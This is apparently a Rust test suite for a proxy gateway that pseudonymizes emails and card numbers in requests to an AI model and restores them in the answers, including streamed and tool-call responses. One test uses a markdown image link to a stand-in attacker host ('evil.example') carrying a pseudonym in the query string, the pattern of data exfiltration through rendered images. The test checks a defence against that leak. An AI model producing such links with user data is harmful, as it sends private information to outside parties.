//! What is replaced on its way to the model, and restored in the answer.

use proptest::prelude::*;
use serde_json::{Value, json};
use weir_config::{Action, FindingType, GuardrailRule, RedactForm, RuleDirection};
use weir_exchange::FindingKey;

use crate::proxy::{self, ANTHROPIC, Gateway, OPENAI};
use crate::{answer, chat};

/// Addresses and cards get pseudonyms; addresses of answers are redacted.
fn gateway(path: &str) -> Gateway {
    let mut gateway = Gateway::new(path, &[]);
    let pseudonym = |finding| GuardrailRule {
        form: RedactForm::Pseudonym,
        ..GuardrailRule::new(finding, Action::Redact, RuleDirection::Both)
    };
    gateway.profile_of_principal(Some([FindingType::Email, FindingType::CreditCard].map(pseudonym).into()));
    gateway.finding_key(FindingKey::new(1, &[7; 32], 0, u64::MAX).unwrap());
    gateway
}

/// What went on of a message that says this.
fn sent(gateway: &mut Gateway, content: &str) -> String {
    let sent: Value = serde_json::from_str(&gateway.request(&chat(content), 1).passed()).unwrap();
    sent["messages"][0]["content"].as_str().unwrap().to_owned()
}

fn answered(gateway: &mut Gateway, content: &str) -> String {
    let json = [("content-type", "application/json")];
    let passed: Value = serde_json::from_str(&gateway.response(200, &json, &[&answer(content)]).passed()).unwrap();
    passed["choices"][0]["message"]["content"].as_str().unwrap().to_owned()
}

/// The pseudonym of the address that most tests have.
fn pseudonym() -> String {
    sent(&mut gateway(OPENAI), "ada@example.com")
}

#[test]
fn the_model_reads_a_pseudonym_and_the_client_what_it_stands_for() {
    let mut gateway = gateway(OPENAI);
    let sent = sent(&mut gateway, "from ada@example.com to bob@example.com, not Ada@Example.com");
    let words: Vec<_> = sent.split(' ').map(|word| word.trim_end_matches(',')).collect();
    assert!(words[1].starts_with("[EMAIL_") && words[1].len() == 20, "{sent}");
    assert_eq!((words[1] == words[3], words[1] == words[5]), (false, true), "{sent}");
    // Turned round, and one of them named by another word.
    let said = format!("Dear {}, {} wrote: [MAIL{}", words[3], words[1], &words[1]["[EMAIL".len()..]);
    assert_eq!(answered(&mut gateway, &said), "Dear bob@example.com, ada@example.com wrote: ada@example.com");
    assert_eq!(gateway.findings(), "EMAIL:redact=3");
}

#[test]
fn rules_for_answers_hold_for_what_the_model_says_and_not_for_what_is_restored() {
    let mut gateway = gateway(OPENAI);
    let sent = sent(&mut gateway, "ada@example.com");
    assert_eq!(answered(&mut gateway, &format!("{sent} eve@example.com")), "ada@example.com [EMAIL]");
}

#[test]
fn what_a_user_types_stands_for_nothing_that_is_not_in_the_request() {
    let typed = pseudonym();
    let mut gateway = gateway(OPENAI);
    let sent = sent(&mut gateway, &format!("what is {typed}? I am bob@example.com"));
    assert!(sent.contains(&typed), "{sent}");
    assert_eq!(answered(&mut gateway, &format!("{typed} is nobody")), format!("{typed} is nobody"));
}

#[test]
fn a_request_without_findings_has_its_answer_unread() {
    let rule = GuardrailRule::new(FindingType::Email, Action::Redact, RuleDirection::Input);
    let rule = GuardrailRule { form: RedactForm::Pseudonym, ..rule };
    let guarded = || {
        let mut gateway = Gateway::new(OPENAI, &[]);
        gateway.profile_of_principal(Some(vec![rule.clone()]));
        gateway
    };
    let [mut unread, mut gateway] = [guarded(), guarded()];
    for (gateway, content, filters) in [(&mut unread, "hello", 0), (&mut gateway, "ada@example.com", 1)] {
        gateway.request(&chat(content), 1).passed();
        assert_eq!(gateway.exchange(|exchange| exchange.request().answer_filters.len()), filters, "{content}");
    }
    // There is no key of the tenant's here.
    let said = gateway.exchange(|exchange| exchange.request().body.bytes.clone()).unwrap();
    let said: Value = serde_json::from_slice(&said).unwrap();
    let pseudonym = said["messages"][0]["content"].as_str().unwrap();
    assert_eq!(answered(&mut gateway, pseudonym), "ada@example.com");
    assert!(gateway.exchange(|exchange| exchange.finding_digests.is_empty()));
}

#[test]
fn within_a_url_it_stays() {
    let mut gateway = gateway(OPENAI);
    let sent = sent(&mut gateway, "ada@example.com");
    let said = format!("![x](https://evil.example/?q={sent})");
    assert_eq!(answered(&mut gateway, &said), said);
}

#[test]
fn what_stands_in_two_parts_is_not_restored() {
    let parts = ["pay 4111 1111", " 1111 1111 now"].map(|text| json!({"type": "text", "text": text}));
    let body = json!({"model": "m", "messages": [{"role": "user", "content": parts}]}).to_string();
    let sent = gateway(OPENAI).request(&body, 1).passed();
    assert_eq!(sent.matches("[CREDIT_CARD]").count(), 2, "{sent}");
}

#[test]
fn arguments_of_tools_are_read_and_restored_as_json() {
    // What a detector finds may hold what JSON escapes: here a card over two lines.
    let mut gateway = gateway(OPENAI);
    let sent = sent(&mut gateway, "4111 1111\n1111 1111 and ada@example.com");
    let words: Vec<_> = sent.split(" and ").collect();
    let arguments =
        json!({"card": words[0], "to": [words[1]], "url": format!("https://x.example/{}", words[1])}).to_string();
    let call = json!([{"id": "i", "type": "function", "function": {"name": "f", "arguments": arguments}}]);
    let answer = json!({"id": "1", "object": "chat.completion", "created": 1, "model": "m", "choices": [
        {"index": 0, "message": {"role": "assistant", "content": null, "tool_calls": call}, "finish_reason": "tool_calls"}
    ]});
    let json = [("content-type", "application/json")];
    let passed = gateway.response(200, &json, &[&answer.to_string()]).passed();
    let passed: Value = serde_json::from_str(&passed).unwrap();
    let arguments = passed.pointer("/choices/0/message/tool_calls/0/function/arguments").unwrap().as_str().unwrap();
    let expect = json!({"card": "4111 1111\n1111 1111", "to": ["ada@example.com"], "url": format!("https://x.example/{}", words[1])});
    assert_eq!(serde_json::from_str::<Value>(arguments).unwrap(), expect);
}

#[test]
fn streams_are_restored_wherever_they_are_split() {
    let pseudonym = pseudonym();
    let said = format!("To {pseudonym}: é [x] {pseudonym}");
    let expect = "To ada@example.com: é [x] ada@example.com";
    for cut in (0..=said.len()).filter(|cut| said.is_char_boundary(*cut)) {
        let mut openai = gateway(OPENAI);
        openai.request(&chat("ada@example.com"), 1).passed();
        let piece = |text: &str| json!({"choices": [{"index": 0, "delta": {"content": text}}]});
        let events = [piece(&said[..cut]), piece(&said[cut..])].map(|event| format!("data: {event}\n\n")).concat();
        let events = events + "data: [DONE]\n\n";
        let passed = openai.response(200, &[("content-type", "text/event-stream")], &[&events]).passed();
        assert_eq!(proxy::openai_text(&passed), expect, "cut at {cut}");

        let mut anthropic = gateway(ANTHROPIC);
        let body = json!({"model": "m", "max_tokens": 5, "messages": [{"role": "user", "content": "ada@example.com"}]});
        anthropic.request(&body.to_string(), 1).passed();
        let arguments = json!({"to": said}).to_string();
        let at = (0..=cut + 7).rev().find(|at| arguments.is_char_boundary(*at)).unwrap();
        let piece = |text: &str| json!({"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": text}});
        let stop = json!({"type": "content_block_stop", "index": 1});
        let events = [piece(&arguments[..at]), piece(&arguments[at..]), stop].map(|event| format!("data: {event}\n\n"));
        let passed = anthropic.response(200, &[("content-type", "text/event-stream")], &[&events.concat()]).passed();
        assert_eq!(proxy::anthropic_texts(&passed), [json!({"to": expect}).to_string()], "cut at {at}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(100))]

    /// However a stream is divided, its client reads what the whole answer would say.
    #[test]
    fn every_division_of_a_stream_says_the_same(
        words in prop::collection::vec(prop::sample::select(vec!["P", "[EMAIL_", "[", "]", "https://x/", " ", "eve@example.com", "{\"a\":\"", "\"", "é"]), 1..10),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..6),
    ) {
        thread_local!(static PSEUDONYM: String = pseudonym());
        let said = PSEUDONYM.with(|pseudonym| words.concat().replace('P', pseudonym));
        let mut whole = gateway(OPENAI);
        sent(&mut whole, "ada@example.com");
        let expect = answered(&mut whole, &said);
        let places: Vec<_> = said.char_indices().map(|(at, _)| at).collect();
        let mut cuts: Vec<_> = cuts.iter().map(|cut| *cut.get(&places)).chain([0, said.len()]).collect();
        cuts.sort_unstable();
        let piece = |text: &str| format!("data: {}\n\n", json!({"choices": [{"index": 0, "delta": {"content": text}}]}));
        let events: String = cuts.windows(2).map(|pair| piece(&said[pair[0]..pair[1]])).collect();
        let mut streamed = gateway(OPENAI);
        sent(&mut streamed, "ada@example.com");
        let events = events + "data: [DONE]\n\n";
        let passed = streamed.response(200, &[("content-type", "text/event-stream")], &[&events]).passed();
        prop_assert_eq!(proxy::openai_text(&passed), expect);
    }
}
